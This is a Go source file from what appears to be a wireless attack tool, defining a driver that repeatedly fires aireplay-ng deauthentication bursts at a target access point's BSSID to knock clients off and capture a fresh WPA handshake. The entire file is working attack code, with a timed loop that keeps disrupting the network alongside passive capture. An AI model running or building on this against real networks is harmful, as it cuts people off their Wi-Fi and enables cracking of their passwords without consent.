package attack

import (
	"context"
	"strconv"
	"time"

	"github.com/sirupsen/logrus"

	"github.com/shakedown/shakedown/internal/tools"
)

// DeauthDriver fires bounded deauthentication bursts through aireplay-ng
// to provoke a fresh handshake. Burst failures are never fatal: passive
// capture continues without them.
type DeauthDriver struct {
	runner tools.Runner
}

func NewDeauthDriver(runner tools.Runner) *DeauthDriver {
	return &DeauthDriver{runner: runner}
}

// Burst sends count broadcast deauth frames at the BSSID, then returns.
// It does not confirm that a handshake resulted.
func (d *DeauthDriver) Burst(ctx context.Context, monIface, bssid string, count int) error {
	_, err := d.runner.Run(ctx, "aireplay-ng",
		"--deauth", strconv.Itoa(count),
		"-a", bssid,
		monIface,
	)
	return err
}

// loop fires an immediate burst and then one per interval until the
// context ends. Runs concurrently with the capture process, independent
// of the verifier's polling cadence.
func (d *DeauthDriver) loop(ctx context.Context, monIface, bssid string, count int, interval time.Duration) {
	burst := func() {
		if err := d.Burst(ctx, monIface, bssid, count); err != nil && ctx.Err() == nil {
			logrus.WithError(err).WithField("bssid", bssid).
				Warn("deauth burst failed, continuing with passive capture")
		}
	}

	burst()

	ticker := time.NewTicker(interval)
	defer ticker.Stop()

	for {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
			burst()
		}
	}
}
